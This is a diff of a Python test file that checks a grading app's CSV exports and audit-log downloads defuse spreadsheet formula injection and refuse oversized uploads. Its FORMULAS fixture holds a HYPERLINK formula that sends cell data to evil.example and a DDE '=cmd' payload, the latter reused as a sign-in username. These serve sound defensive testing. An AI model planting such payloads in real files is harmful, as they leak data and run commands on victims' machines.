@@ -3,6 +3,7 @@ English message, nothing is published, and nothing a person typed runs when a do
 (A zip renamed .xlsx, old .xls, binary junk and formulas in score cells are in
 test_import_examples.py; a 200 MB body sent to Streamlit's upload endpoint in
 tests/e2e/test_bad_input_ws.py.)"""
+
 from __future__ import annotations
 
 import csv
@@ -15,15 +16,21 @@ import pandas as pd
 import pytest
 
 from dgcore import importer
-
-from dgcore.documents import tables as exports
-from dgcore.accounts.store import SqliteAccountStore
 from dgcore.accounts.auth import authenticate
+from dgcore.accounts.store import SqliteAccountStore
 from dgcore.db import current_version
+from dgcore.documents import tables as exports
 from dgcore.importer.read import MAX_FILE_BYTES
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture(scope="module")
@@ -47,6 +54,7 @@ def test_a_200_mb_file_is_refused_before_it_is_read_with_a_clear_message(tmp_pat
 def test_the_limit_is_the_browsers_upload_limit():
     import tomllib
     from pathlib import Path
+
     config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
     assert config["server"]["maxUploadSize"] * 1024 * 1024 == MAX_FILE_BYTES
 
@@ -79,4 +87,6 @@ def test_a_username_tried_at_the_sign_in_form_is_defused_in_the_audit_logs_downl
     authenticate(store, "=cmd|' /C calc'!A0", "x", "203.0.113.5", time.time())
     log = pd.DataFrame(store.audit_rows(limit=10))
     assert log["actor"].str.startswith("=").any()
-    assert "\n=" not in exports.csv_bytes(log).decode("utf-8-sig") and ",=" not in exports.csv_bytes(log).decode("utf-8-sig")
+    assert "\n=" not in exports.csv_bytes(log).decode("utf-8-sig") and ",=" not in exports.csv_bytes(log).decode(
+        "utf-8-sig"
+    )
